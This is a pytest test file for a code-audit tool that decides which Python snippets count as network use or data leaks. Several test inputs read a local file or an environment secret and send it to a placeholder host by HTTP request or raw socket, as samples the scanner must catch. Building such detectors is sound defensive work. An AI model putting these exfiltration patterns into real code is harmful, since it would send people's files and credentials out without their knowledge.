import pytest
from tests.rows import each_row

from nightledger.text.code.audit import audit

GET = "import json, requests\n"
SET = "import os, requests\n"


@each_row(
    ("text", "rule"),
    [
        (GET + "requests.post('https://example.org', json={'a': 1})", "code.network"),
        (GET + "requests.post('https://example.org', data=open('a').read())", "code.leak"),
        (GET + "requests.get('https://example.org', data=x)", "code.network"),
        (GET + "requests.get('http://198.51.100.4/x')", "code.network"),
        (SET + "requests.get('https://example.org/?k=' + os.environ['K'])", "code.leak"),
        (GET + "requests.get('https://example.org', params={'k': open('a').read()})", "code.leak"),
        (GET + "s = requests.Session()\ns.put('https://example.org')", "code.network"),
        (
            "from urllib.request import Request, urlopen\nurlopen(Request('https://example.org', method='POST'))",
            "code.network",
        ),
        ("from urllib.request import urlopen\nurlopen('https://example.org', b'a')", "code.network"),
        (
            "from pathlib import Path\nfrom urllib.request import Request\nRequest('https://example.org', Path('a').read_bytes())",
            "code.leak",
        ),
        ("import socket\ns = socket.socket()\ns.sendall(open('a', 'rb').read())", "code.leak"),
        ("import slack_sdk\nslack_sdk.WebClient('t').chat_postMessage(text='a')", "code.network"),
    ],
)
def test_what_leaves_is_found(text: str, rule: str) -> None:
    assert rule in {finding.rule for finding in audit(text).findings}


@pytest.mark.parametrize(
    "text",
    [
        SET + "requests.get('https://example.org/a', headers={'Authorization': os.environ['K']})",
        GET + "requests.get(json.load(open('settings.json'))['address'])",
        SET + "requests.get(os.environ['BASE'] + '/items')",
        GET + "requests.get('http://192.168.1.4/state')",
        GET + "BASE = 'https://example.org'\nrequests.get(f'{BASE}/{kind}')",
        "from urllib.request import Request, urlopen\nurlopen(Request('https://example.org', headers={}))",
        "from urllib.request import Request\nRequest('https://example.org', method='HEAD')",
    ],
)
def test_fetching_is_spared(text: str) -> None:
    assert audit(text).clean, audit(text).findings
